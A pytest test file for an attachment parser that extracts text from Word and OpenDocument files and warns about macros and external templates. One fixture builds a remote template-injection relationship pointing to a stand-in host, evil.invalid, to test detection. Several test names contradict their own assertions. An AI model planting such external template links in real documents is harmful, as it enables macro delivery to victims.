"""Word and OpenDocument texts, and macros in any Office file."""

import base64
from pathlib import Path

import pytest

from domain.states import PartOutcome
from domain.submissions import Part
from tests.intake.parsers.mimes import TEXT, attached, multipart, papers, unpack
from tests.intake.parsers.originals import picture, saved, text_pdf, zipped

_SPACES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
)
_ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
)


def paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def word_file(body: str, **others: bytes) -> bytes:
    """A docx of this body; `others` by their names below `word/`, `__` for a slash."""
    files = {
        "[Content_Types].xml": b"<x/>",
        "word/document.xml": _root("document", f"<w:body>{body}</w:body>"),
    }
    files |= {f"word/{name.replace('__', '/')}": content for name, content in others.items()}
    return zipped(files)


def _root(name: str, inner: str) -> bytes:
    return f"<w:{name} {_SPACES}>{inner}</w:{name}>".encode()


def text_of(raw: bytes) -> str:
    """The words of an attached file."""
    return papers(unpack(multipart(TEXT, attached(base64.encodebytes(raw)))))[0].pages[0].text


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        pytest.param(
            f"<w:tbl><w:tr><w:tc>{paragraph('Name')}</w:tc><w:tc>{paragraph('Pat')}</w:tc></w:tr></w:tbl>",
            ["Name", "Pat"],
            id="a row of a table torn apart",
        ),
        pytest.param(
            "<w:p><w:del><w:r><w:delText>OLD</w:delText></w:r></w:del><w:ins><w:r><w:t>NEW</w:t></w:r></w:ins></w:p>",
            ["NEW"],
            id="a tracked deletion",
        ),
        pytest.param(
            f"<w:p><mc:AlternateContent><mc:Choice>{paragraph('BOX')}</mc:Choice>"
            f"<mc:Fallback>{paragraph('BOX')}</mc:Fallback></mc:AlternateContent></w:p>",
            ["BOX"],
            id="a text box told twice",
        ),
        pytest.param(
            "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>HIDDEN</w:t></w:r><w:r><w:t>SEEN</w:t></w:r></w:p>",
            ["SEEN"],
            id="hidden words",
        ),
    ],
)
def test_a_word_file_says_something_else(body: str, expected: list[str]) -> None:
    text = text_of(word_file(body))
    assert text.split() == expected
    assert "\n" not in text.strip()


def test_words_at_the_edges_of_a_word_file_are_lost() -> None:
    raw = word_file(
        paragraph("Body"),
        **{
            "header1.xml": _root("hdr", paragraph("Header")),
            "footnotes.xml": _root("footnotes", f"<w:footnote>{paragraph('Note')}</w:footnote>"),
            "footer1.xml": _root("ftr", paragraph("Footer")),
        },
    )
    assert text_of(raw).split() == ["Header", "Body", "Note", "Footer"]


def test_a_pdf_pasted_into_a_word_file_is_lost() -> None:
    raw = word_file(paragraph("Body"), embeddings__card=saved(text_pdf(["one two three four five"])))
    found = papers(unpack(multipart(TEXT, attached(base64.encodebytes(raw)))))
    assert [part.media_type for part in found][1:] == ["application/pdf"]


def test_header_and_picture_of_an_opendocument_text_are_lost() -> None:
    row = "".join(f"<table:table-cell><text:p>{w}</text:p></table:table-cell>" for w in ("Name", "Pat"))
    table = f"<table:table><table:table-row>{row}</table:table-row></table:table>"
    body = f"<text:p>Dear<text:s/>office</text:p>{table}"
    styles = f"<office:document-styles {_ODF}><text:p>Header</text:p></office:document-styles>"
    raw = zipped(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": f"<office:document-content {_ODF}>{body}</office:document-content>".encode(),
            "styles.xml": styles.encode(),
            "Pictures/card.png": picture((900, 600), "PNG"),
        }
    )
    found = papers(unpack(multipart(TEXT, attached(base64.encodebytes(raw)))))
    assert found[0].pages[0].text.split() == ["Header", "Dear", "office", "Name", "Pat"]
    assert found[1].media_type == "image/png"


def _only(raw: bytes) -> tuple[Part, tuple[str, ...]]:
    found = unpack(
        multipart(TEXT, attached(base64.encodebytes(raw), disposition=b"attachment; filename=a.doc"))
    )
    return found.parts[1], found.warnings


@pytest.mark.parametrize(
    ("folder", "words"),
    [("xl", "This is a spreadsheet."), ("ppt", "This is an Office file that is not opened here.")],
)
def test_office_file_without_a_text_says_what_it_is(folder: str, words: str) -> None:
    part, _ = _only(zipped({"[Content_Types].xml": b"<Types/>", f"{folder}/main.xml": b"<main/>"}))
    assert part.outcome is PartOutcome.UNSUPPORTED
    assert part.problem == f"{words} Ask the sender for a PDF."


def _ole(*path: str) -> bytes:
    """An old Office file with one stream, by extract_msg's writer."""
    import io

    from extract_msg.ole_writer import OleWriter

    writer, target = OleWriter(), io.BytesIO()
    writer.addEntry(path, data=b"x" * 5000)
    writer.write(target)
    return target.getvalue()


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(word_file(paragraph("Hi"), **{"vbaProject.bin": b"x"}), id="docm"),
        pytest.param(
            zipped({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"", "xl/macrosheets/s.xml": b""}),
            id="xlsm",
        ),
        pytest.param(
            zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>",
                    "Basic/Standard/a.xml": b""}),
            id="odt with Basic",
        ),
    ],
)  # fmt: skip
def test_macros_are_not_told(raw: bytes) -> None:
    part, warnings = _only(raw)
    assert warnings == ("a.doc contains macros. They were not run; do not open the file in Office.",)
    assert part.name == "a.doc"


def test_macros_of_an_old_file_are_not_told() -> None:
    part, warnings = _only(_ole("Macros", "VBA", "_VBA_PROJECT"))
    assert part.outcome is PartOutcome.UNSUPPORTED
    assert len(warnings) == 1
    assert _only(_ole("WordDocument"))[1] == ()


def test_a_template_from_elsewhere_is_not_told() -> None:
    relation = (
        b'<Relationship Type="x/attachedTemplate" Target="http://evil.invalid/t.dotm" TargetMode="External"/>'
    )
    _, warnings = _only(word_file(paragraph("Hi"), **{"_rels/settings.xml.rels": relation}))
    assert len(warnings) == 1
    assert "template from elsewhere" in warnings[0]


def test_a_clean_file_is_flagged(tmp_path: Path) -> None:
    assert _only(word_file(paragraph("Hi")))[1] == ()
